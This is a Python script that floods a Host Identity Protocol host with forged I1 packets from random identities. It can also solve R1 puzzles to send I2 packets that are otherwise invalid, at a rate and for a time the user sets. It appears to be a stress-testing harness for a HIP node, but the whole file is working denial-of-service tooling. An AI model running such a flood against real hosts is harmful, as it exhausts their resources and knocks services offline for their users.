"""A machine that floods a HIP host, as a program: forged I1s, or I2s with a solved puzzle and nothing else that is right.

``python hip_flood.py HOST PORT HIT RATE SECONDS KIND``: KIND is ``i1``, each from another HIT, or ``i2``, for which it asks for some
R1s first and solves their puzzles. It shares no code with the node. It ends by printing how many packets it sent.
"""

from __future__ import annotations

import hashlib
import os
import socket
import struct
import sys
import time

PREPARED = 512
"Different packets that are prepared."

PUZZLES = 100
"R1s that are asked for."

BEGUN = "begun"
"What is printed first; how many were sent comes last."

MARKER = bytes(4)
PREFIX = bytes.fromhex("20010022")
"Of a HIT by SHA-384."


def parameter(type_: int, contents: bytes) -> bytes:
    """Return one parameter with its padding."""
    octets = struct.pack(">HH", type_, len(contents)) + contents
    return octets + bytes(-len(octets) % 8)


def packet(type_: int, sender: bytes, receiver: bytes, *parameters: bytes) -> bytes:
    """Return a datagram with a HIP packet."""
    body = b"".join(parameters)
    header = struct.pack(">BBBBHH", 59, (32 + len(body)) // 8 + 0, type_, 0x21, 0, 0)
    return MARKER + header + sender + receiver + body


def i1(receiver: bytes) -> tuple[bytes, bytes]:
    """Return a HIT that nobody has, and its I1."""
    sender = PREFIX + os.urandom(12)
    return sender, packet(1, sender, receiver, parameter(511, bytes((7, 8))))


def i2(sender: bytes, receiver: bytes, r1: bytes) -> bytes:
    """Solve the puzzle of an R1, and return an I2 in which the rest is wrong."""
    found = {}
    place = 44
    while place < len(r1):
        type_, length = struct.unpack_from(">HH", r1, place)
        found[type_] = r1[place + 4 : place + 4 + length]
        place += 11 + length - (length + 3) % 8
    difficulty, random = found[257][0], found[257][4:]
    number = 0
    while True:
        solution = number.to_bytes(len(random), "big")
        digest = hashlib.sha384(random + sender + receiver + solution).digest()
        if not int.from_bytes(digest, "big") & ((1 << difficulty) - 1):
            break
        number += 1
    solved = bytes([difficulty, 0]) + found[257][2:4] + random + solution
    return packet(
        3, sender, receiver,
        parameter(65, struct.pack(">HHII", 0, 128, 0, 5000)), parameter(129, found[129]), parameter(321, solved),
        parameter(513, found[513]), parameter(579, b"\0\2"), parameter(641, os.urandom(132)),
        parameter(2049, b"\x0f\xff"), parameter(4095, b"\0\0\0\x0d"), parameter(61505, os.urandom(48)),
        parameter(61697, b"\0\7" + os.urandom(64)),
    )  # fmt: skip


def asked(plug: socket.socket, receiver: bytes) -> list[bytes]:
    """Ask for some R1s, and return wrong I2s for them."""
    prepared = []
    for _ in range(PUZZLES):
        sender, octets = i1(receiver)
        plug.send(octets)
        prepared.append(i2(sender, receiver, plug.recv(4096)))
    return prepared


def flood(host: str, port: int, hit: bytes, rate: int, seconds: float, kind: str) -> int:
    """Send for so long, and return how many were sent."""
    plug = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    plug.connect((host, port))
    plug.settimeout(5)
    prepared = asked(plug, hit) if kind == "i2" else [i1(hit)[1] for _ in range(PREPARED)]
    print(BEGUN, flush=True)
    begun, sent = time.monotonic(), 0
    while (passed := time.monotonic() - begun) < seconds:
        due = int(passed * rate)
        while sent < due:
            plug.send(prepared[sent % len(prepared)])
            sent += 1
        time.sleep(0.001)
    return sent


if __name__ == "__main__":
    host, port, hit, rate, seconds, kind = sys.argv[1:]
    print(flood(host, int(port), bytes.fromhex(hit), int(rate), float(seconds), kind))
